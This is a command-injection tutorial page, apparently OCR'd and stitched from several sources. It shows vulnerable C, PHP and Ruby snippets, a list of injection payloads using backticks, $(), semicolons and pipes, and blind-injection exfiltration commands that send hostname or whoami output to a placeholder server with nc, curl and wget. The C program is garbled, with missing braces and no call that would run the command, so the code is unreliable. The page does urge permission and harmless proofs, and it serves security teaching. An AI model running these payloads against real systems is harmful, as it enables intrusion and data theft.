top of page

$   ./a.out exploit.txt
my name is Rachit Yadav

Command injection is basically injection of operating system commands to be executed through a web-app. The purpose of the command injection attack is to inject and execute commands specified by the attacker in the vulnerable application. In situation like this, the application, which executes unwanted system commands, is like a pseudo system shell, and the attacker may use it as an authorized system user. However, commands are executed with the same privileges and environment as the web application has. Command injection attacks are possible due to lack of correct input data validation, which can be manipulated by the attacker (forms, cookies, HTTP headers etc.).

There is a variant of the Code Injection attack. In code injection, the attacker adds his own code to the existing code. Injected code is executed with the same privileges and environment as the application has.

An OS command injection attack occurs when an attacker attempts to execute system level commands through a vulnerable application. Applications are considered vulnerable to the OS command injection attack if they utilize user input in a system level command.// C program to demonstrate Command Injection attack

// The purpose of the program to print contents of a

// file provided as command line argument.

#include <stdio.h>

#include <unistd.h>


int main(int argc, char **argv)


    char cat[] = "cat";

    char *command;

    size_t commandLength;


    commandLength = strlen(cat) + strlen(argv[1]) + 1;

    command = (char *) malloc(commandLength);

    strncpy(command, cat, commandLength);strncat(command, argv[1], (commandLength - strlen(cat)) );



    return (0);


Used normally, the output is simply the contents of the file requested:

However, if we add a semicolon and another command to the end of this line, the command is executed by catWrapper with no complaint:

$ ./a.out "exploit.txt; ls" my name is Rachit Yadav

exploit.txt                                            doubFree.c                         nullpointer.c

unstosig.c                                          www*                                   a.out*

format.c                                             strlen.c                                useFree*

format.c                                            misnull.c                               strlength.c              useFree.c

commandinjection.c                         nodefault.c                           trunc.c


The following PHP code snippet is vulnerable to a command injection attack(web app):print("Please specify the name of the file to delete");



system("rm $file");


The following request and response is an example of a successful attack:

Please specify the name of the file to delete
uid=33(www-data) gid=33(www-data) groups=33(www-data)

A command injection is a class of vulnerabilities where the attacker can control one or multiple commands that are being executed on a system. This post will go over the impact, how to test for it, defeating mitigations, and caveats.

Before diving into command injections, let’s get something out of the way: a command injection is not the same as a remote code execution (RCE). The difference is that with an RCE, actual programming code is executed, whereas with a command injection, it’s an (OS) command being executed. In terms of possible impact, this is a minor difference, but the key difference is in how you find and exploit them.

Setting up

Let’s start by writing two simple Ruby scripts that you can run locally to learn finding and exploiting command injection vulnerabilities. I used Ruby 2.3.3p222. Below is ping.rb.

puts `ping -c 4 #{ARGV[0]}`

This script will ping the server that’s being passed to the script as argument. It will then return the command output on the screen. Example output below.$ ruby ping.rb ''

PING ( 56 data bytes

64 bytes from icmp_seq=0 ttl=46 time=23.653 ms

64 bytes from icmp_seq=1 ttl=46 time=9.111 ms

64 bytes from icmp_seq=2 ttl=46 time=8.571 ms

64 bytes from icmp_seq=3 ttl=46 time=20.565 ms--- ping statistics ---

4 packets transmitted, 4 packets received, 0.0% packet loss

round-trip min/avg/max/stddev = 8.571/15.475/23.653/6.726 ms

As you can see, it executed ping -c 4 and displayed the output on the screen. Here’s another script that will be used in the blog post: server-online.rb.

puts `ping -c 4 #{ARGV[0]}`.include?('bytes from') ? 'yes' : 'no'

This script will determine whether the server is online based on an ICMP response (ping). If it responds to the ping request, it’ll display yes on the screen. In case it doesn’t, it’ll display no. The output of the command isn’t returned to the user. Example output below.

$ ruby server-on.rb ''


$ ruby server-on.rb ''One of the best ways to detect a first-order command injection vulnerability is trying to execute a sleep command and determine if the execution time increases. To start with this, let’s establish a time baseline for the ping.rb script:

$ time ruby ping.rb ''

PING ( 56 data bytes


0.09s user 0.04s system 4% cpu 3.176 total

Notice that executing script takes about 3 seconds. Now let’s determine if the script is vulnerable to a command injection by injecting a sleep command.

$ time ruby ping.rb ' && sleep 5'

PING ( 56 data bytes


0.10s user 0.04s system 1% cpu 8.182 total

The script will now execute the command ping -c 4 && sleep 5. Notice the execution time again: it jumped from ~3 seconds to ~8 seconds, which is an increase of exactly 5 seconds. There can still be unexpected delays on the internet, so it’s important to repeat the injection and play with the amount of seconds to make sure it’s not a false positive.

Let’s determine whether the server-online.rb script is vulnerable, too.

$ time ruby server-online.rb ''0.10s user 0.04s system 4% cpu 3.174 total

$ time ruby server-online.rb ' && sleep 5'


0.10s user 0.04s system 1% cpu 8.203 total

Again, the baseline shows executing a normal request takes about 3 seconds. Adding && sleep 5 to the command increases the time to 8 seconds.

Depending on the command being executed, the sleep command may be injected differently. Here are a few payloads that you can try when looking for command injections (they all work):

time ruby ping.rb '`sleep 5`'

When a command line gets parsed, everything between backticks is executed first. Executing echo `ls` will first execute ls and capture its output. It’ll then pass the output to echo, which displays the output of ls on the screen. This is called command substitution. Since execution of the command between backticks takes precedence, it doesn’t matter if the command executed afterwards fails. Below is a table of commands with injected payloads and its result. The injected payload is marked in green.



ping -c 4`sleep 5`

sleep command executed, command substitution works in command line.

ping -c 4 "`sleep 5`"sleep command executed, command substitution works in complex strings (between doublequotes).

ping -c 4 $(echo`sleep 5`)

sleep command executed, command substitution works in command substitution when using a different notation (see example below).

ping -c 4 '`sleep 5`'

sleep command not executed, command substitution does not work in simple strings (between single quotes).

ping -c 4 `echo`sleep 5``

sleep command not executed, command substitution does not work when using the same notation.

time ruby ping.rb '$(sleep 5)'
This is a different notation for command substitution. This may be useful when backticks are filtered or encoded. When using command substitution to look for command injections, make sure to test both notations to avoid true-negatives in case the payload is already being substituted (see last example in table above).

time ruby ping.rb '; sleep 5'

Commands are executed in a sequence (left to right) and they can be separated with semicolons. When a command in the sequence fails it won’t stop executing the other commands. Below is a table of commands with injected payloads and its result. The injected payload is marked in green.



ping -c 4;sleep 5

sleep command executed, sequencing commands works when used on the command line.

ping -c 4 ";sleep 5"

sleep command not executed, the additionalcommand is injected in a string, which is passed as argument to the ping command.

ping -c 4 $(echo;sleep 5)

sleep command executed, sequencing commands works in command substitution.

ping -c 4 ';sleep 5'

sleep command not executed, the additional command is injected in a string, which is passed as argument to the ping command.

ping -c 4 `echo;sleep 5`

sleep command executed, sequencing commands works in command substitution.

time ruby ping.rb ' | sleep 5'
Command output can be piped, in sequence, to another commands. When executing cat /etc/passwd | grep root, it’ll capture the output of the cat /etc/passwd command and pass it to grep root, which will then show the lines that match root. When the first command fail, it’ll still execute the second command. Below is a table of commands with injected payloads and its result. The injected payload is marked in green.



ping -c 4 | sleep 5

sleep command executed, piping output works when used on the command line.

ping -c 4 " | sleep 5"sleep command not executed, the additional command is injected in a string, which is passed as argument to the ping command.

ping -c 4 $(echo | sleep 5)

sleep command executed, piping output works in command substitution.

ping -c 4 ' | sleep 5'

sleep command not executed, the additional command is injected in a string, which is passed as argument to the ping command.

ping -c 4 `echo | sleep 5`

sleepcommand executed, piping output works in command substitution.


To exploit the vulnerability for evidence is to determine whether it’s a generic or blind command injection. The difference between the two, is that a blind command injection doesn’t return the output of the command in the response. A generic command injection would return the output of the executes command(s) in the response. The sleep command is often a good proof of concept for either flavor. However, if you need more proof, execute id, hostname, or whoami and use the output as additional proof. The server’s hostname is useful to determine how many servers are affected and help the vendor to get asense of impact faster.

Important: needless to say, most companies don’t appreciate you snooping around on their systems. Before exploiting the vulnerability to pivot into something else, ask permission to the company. In nearly all situations proving that executing arbitrary but harmless commands like sleep, id, hostname or whoami is enough to proof impact to the affected company.

Exploiting generic command injection

This is usually pretty straightforward: the output of any injected command will be returned to the user:

$ ruby ping.rb ' && whoami'

PING ( 56 data bytes

64 bytes from icmp_seq=0 ttl=46 time=9.008 ms

64 bytes from icmp_seq=1 ttl=46 time=8.572 ms64 bytes from icmp_seq=2 ttl=46 time=9.309 ms

64 bytes from icmp_seq=3 ttl=46 time=9.005 ms

--- ping statistics ---

4 packets transmitted, 4 packets received, 0.0% packet loss

round-trip min/avg/max/stddev = 8.572/8.973/9.309/0.263 ms


The red part shows the output of the ping command. The green text the output of the whoami command. From this point, you can gather evidence for your proof of concept. Again, stick to harmless commands.

Exploiting blind command injection

With blind command injections the output isn’t returned to the user, so we should find other ways to extract the output. The most straightforward technique is to offload the output to your server. To simulate this, run nc -l -n -vv -p 80 -k on your server and allow inbound connections on port 80 in your firewall.

Once you’ve set up the listener, use nc, curl, wget, telnet, or any other tool that sends data to the internet, to send the output to your server:

$ ruby server-online.rb ' && hostname | nc IP 80'


Then observe a connection being made to your server that shows the output of the hostname command:

$ nc -l -n -vv -p 80 -k

Listening on [] (family 0, port 81)

Connection from [] port 80 [tcp/*] accepted (family 2, sport 64225)


In theexample above, nc is used to send the output of the command to your server. However, nc might be deleted or unable to execute. To avoid going down a rabbit hole, there are a few simple payloads to determine if a command exists. Incase any of the commands increase the time with 5 seconds, you know the command exists.

  • curl -h && sleep5

  • wget -h && sleep 5

  • ssh -V && sleep 5

  • telnet && sleep 5

When you’ve determined a command exists, you can use any of those commands to send the output of a command to your server, like this:

  • whoami | curl http://your-server -d @-

  • wget http://your-server/$(whoami)

  • export C=whoami | ssh user@your-server (setup the user account on your-server to authenticate without a password and log every command being executed)Even though the server-online.rb script doesn’t output the result of the hostname command, the output can be sent to a remote server and obtained by an attacker. In some cases, outbound TCP and UDP connections are blocked. It’s still possible to extract the output in that case, we just have to do a little bit more work.

